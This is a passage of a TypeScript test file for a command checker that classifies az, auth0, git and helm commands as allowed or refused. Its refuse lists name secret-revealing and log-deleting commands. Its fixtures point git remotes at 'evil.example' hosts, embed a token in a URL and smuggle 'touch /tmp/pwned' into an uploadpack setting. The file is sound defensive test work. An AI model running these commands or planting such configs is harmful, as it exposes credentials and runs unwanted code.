      "az storage account keys list --account-name a",
      "az network private-key list",
      "az webapp log download --name app -g g",
      "az webapp config appsettings list --name app -g g",
      "az vm --help --debug",
      "az config set core.output=json",
      "az config get",
      "az config get storage",
      "az config get storage.key",
      "az config get storage.connection_string",
      "az config get storage.sas_token",
      "az find a b c",
      "az --debug vm list",
      "az bicep install",
      "az account get-access-token",
      "az monitor logs delete",
      "az spring app logs update",
      "az webapp log tail delete",
      "gcloud logging logs list delete",
    ],
  },
  auth0: {
    allow: [
      "auth0 -t mytenant apps list",
      "auth0 --tenant=mytenant apps list",
      "auth0 --help",
      "auth0 apps --help",
      "auth0 apps list -h",
    ],
    refuse: [
      "auth0 --debug apps list",
      "auth0 apps list --reveal-secrets",
      "auth0 apps show x --reveal-secrets",
      "auth0 apps create --help extra words here",
      "auth0 test token",
      "auth0 -t",
      "auth0 apps delete x",
      "auth0 login --help --debug",
    ],
  },
};

// Remotes git fetch must not copy from: a local path, file://, and a URL with a token in it.
const localRemote = repo("local-remote");
git(localRemote, "remote", "add", "origin", join(work, "clean"));
const fileRemote = repo("file-remote");
git(fileRemote, "remote", "add", "origin", `file://${join(work, "clean")}`);
// ssh to a host the repository names (a forwarded agent would reach it).
const sshRemote = repo("ssh-remote");
git(sshRemote, "remote", "add", "origin", "git@evil.example:o/r.git");
const sshUrlRemote = repo("ssh-url-remote");
git(sshUrlRemote, "remote", "add", "origin", "ssh://git@github.com.evil.example/o/r.git");
const tokenRemote = repo("token-remote");
git(tokenRemote, "remote", "add", "origin", "https://user:ghp_secret@example.invalid/o/r.git");
// Initialized submodules (their own config and hooks under .git/modules).
const submodules = repo("submodules");
git(submodules, "remote", "add", "origin", "https://example.invalid/o/r.git");
mkdirSync(join(submodules, ".git", "modules", "sub"), { recursive: true });
// A hooks directory that is a symlink to a directory with a live hook.
const linkedHooks = repo("linked-hooks");
put(join(work, "hookdir", "pre-auto-gc"), "#!/bin/sh\n");
rmSync(join(linkedHooks, ".git", "hooks"), { recursive: true });
symlinkSync(join(work, "hookdir"), join(linkedHooks, ".git", "hooks"));
// A config that runs a program from the remote section (uploadpack) and a quoted URL with a space.
const uploadPack = repo("upload-pack");
git(uploadPack, "remote", "add", "origin", "https://example.invalid/o/r.git");
git(uploadPack, "config", "remote.origin.uploadpack", "touch /tmp/pwned; git-upload-pack");

/** Rows that need a repository of their own (symlinked charts, live hooks …): command → dir. */
const REFUSE_IN: [string, string][] = [
  ["docker compose -f other.yml ps", linkedCompose],
  ...["helm template r ./mychart", "helm template r mychart --set a=b", "helm lint ./mychart", "helm lint ."].flatMap(
    (c): [string, string][] => [
      [c, linkedChart],
      [c, secretChart],
      [c, schemaRef],
      [c, schemaEscaped],
      [c, schemaMeta],
      [c, schemaRelative],
      [c, schemaBroken],
      [c, packedSub],
    ],
  ),
  ...["git fetch", "git fetch origin", "git fetch --all", "git fetch --dry-run"].flatMap((c): [string, string][] => [
    [c, hooked],
    [c, hooksPath],
    [c, localRemote],
    [c, fileRemote],
    [c, tokenRemote],
    [c, submodules],
    [c, linkedHooks],
    [c, uploadPack],
    [c, sshRemote],
    [c, sshUrlRemote],
  ]),
  ...["git ls-remote", "git ls-remote origin", "git request-pull origin/main https://example.invalid/r"].flatMap(
    (c): [string, string][] => [
      [c, localRemote],
      [c, fileRemote],
      [c, sshRemote],
      [c, sshUrlRemote],
    ],
  ),
  ["git ls-remote", tokenRemote],
  ["git ls-remote origin", tokenRemote],
  ["git request-pull origin/main https://example.invalid/r main", tokenRemote],
  ["git ls-remote origin", uploadPack],
];

/** Rows allowed in a repository other than `clean`: what the fetch checks must not refuse. */
const ALLOW_IN: [string, string][] = [
  ["helm template r ./mychart", clean],
  ["helm template r ./mychart", schemaLocal],
  ["helm lint ./mychart --skip-schema-validation", schemaRef],
  ["helm template r ./mychart --skip-schema-validation", packedSub],
  ["helm template r nginx/nginx", linkedChart],
  ["git ls-remote origin", hooked],
  ["git status", hooked],
  ["git fetch origin", clean],
];

describe("in-process", () => {
  for (const [family, { allow, refuse }] of Object.entries(FAMILIES)) {
    test(`${family}: allowed`, () => {
      const wrong = allow.filter((c) => analyzeCommand(c, facts(clean)).verdict !== "allow");
      expect(wrong).toEqual([]);
    });
    test(`${family}: refused`, () => {
      const wrong = refuse.filter((c) => analyzeCommand(c, facts(clean)).verdict === "allow");
      expect(wrong).toEqual([]);
    });
  }
  test("refused in their own repositories", () => {
    const wrong = REFUSE_IN.filter(([c, dir]) => analyzeCommand(c, facts(dir)).verdict === "allow");
    expect(wrong).toEqual([]);
  });
  test("allowed in their own repositories", () => {
    const wrong = ALLOW_IN.filter(([c, dir]) => analyzeCommand(c, facts(dir)).verdict !== "allow");
    expect(wrong).toEqual([]);
  });
});

describe("compiled binary", () => {
  const { env } = isolatedHome();
  for (const [family, { allow, refuse }] of Object.entries(FAMILIES)) {
    test(`${family}: allowed by the fast path, refused ones left to the classifier`, async () => {
      const verdicts = await binaryVerdicts([...allow, ...refuse], clean, env);
      expect(allow.filter((c) => verdicts.get(c) !== "allow")).toEqual([]);
      expect(refuse.filter((c) => verdicts.get(c) === "allow")).toEqual([]);
    }, 120_000);
  }
  test("refused in their own repositories", async () => {
    for (const [c, dir] of REFUSE_IN) {
      const verdicts = await binaryVerdicts([c], dir, env);
      expect([c, verdicts.get(c)]).toEqual([c, "fallthrough"]);
    }
  }, 120_000);
});
